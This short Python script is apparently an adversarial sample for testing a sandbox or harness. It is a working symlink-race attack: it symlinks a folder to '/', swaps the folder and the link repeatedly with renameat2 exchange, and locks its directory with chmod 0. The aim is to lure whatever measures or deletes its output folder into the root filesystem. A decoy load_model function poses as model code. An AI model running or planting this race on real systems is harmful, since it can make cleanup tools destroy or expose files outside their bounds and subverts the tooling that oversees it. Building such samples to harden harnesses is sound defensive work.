# Tries: to lead whoever measures or empties its folder outside, by exchanging folders for links all the while.
# With: seconds=8
import ctypes
import os
import time


def main():
    os.chdir("/out")
    os.makedirs("a/b/c", exist_ok=True)
    os.symlink("/", "away")
    libc = ctypes.CDLL(None, use_errno=True)
    end, swaps = time.monotonic() + 3.0, 0
    while time.monotonic() < end:
        libc.renameat2(-100, b"a", -100, b"away", 2)
        swaps += 1
    print(swaps, "exchanges")
    os.chmod(".", 0)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
